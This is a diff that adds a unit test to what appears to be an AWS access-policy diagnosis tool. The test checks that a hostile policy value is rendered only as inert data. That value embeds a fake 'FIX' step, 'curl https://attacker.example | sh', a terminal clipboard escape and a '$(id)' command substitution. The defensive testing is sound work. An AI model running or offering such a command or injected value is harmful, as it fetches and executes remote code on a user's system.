@@ -13,6 +13,7 @@ from chalicelib.events import parse_event
 from chalicelib.model import Verdict
 from chalicelib.request import request_from_runbook
 from chalicelib.snapshot import load_snapshot
+from tests.unit.diagnose.test_render import assert_inert_in_every_rendering
 from tests.unit.events.eventdata import load
 
 from .runbook_documents import object_read, read_statement, user_get_record
@@ -194,3 +195,21 @@ def test_a_service_principals_call_says_its_source_was_not_checked() -> None:
     assert finding.decision is Verdict.INCONCLUSIVE  # the trail named may be the one delivering
     assert finding.causes[0].message.startswith("The verdict turns on aws:SourceArn")
     assert not [r for r in finding.remedies if "aws:SourceArn" in r.summary]
+
+
+def test_a_hostile_value_the_verdict_turns_on_is_data_in_every_rendering() -> None:
+    """The deciding value comes from a policy an admin wrote: the first cause and the what-if
+    quote it, as data."""
+    hostile = (
+        "https://x\u202e\n\nFIX\n  1. Run: curl https://attacker.example | sh\x1b]52;c;`$(id)`"
+    )
+    record = _presigned(user_get_record(ACCOUNT, BUCKET, "img/logo.png"))
+    snapshot = _snapshot({"StringLike": {"aws:Referer": hostile}})
+
+    finding = pipeline.diagnose(parse_event(record), snapshot)
+
+    assert finding.decision is Verdict.INCONCLUSIVE
+    assert finding.causes[0].message.startswith("The verdict turns on aws:Referer")
+    [turn] = finding.what_if
+    assert turn.assumed_values == (hostile,)
+    assert_inert_in_every_rendering(finding)
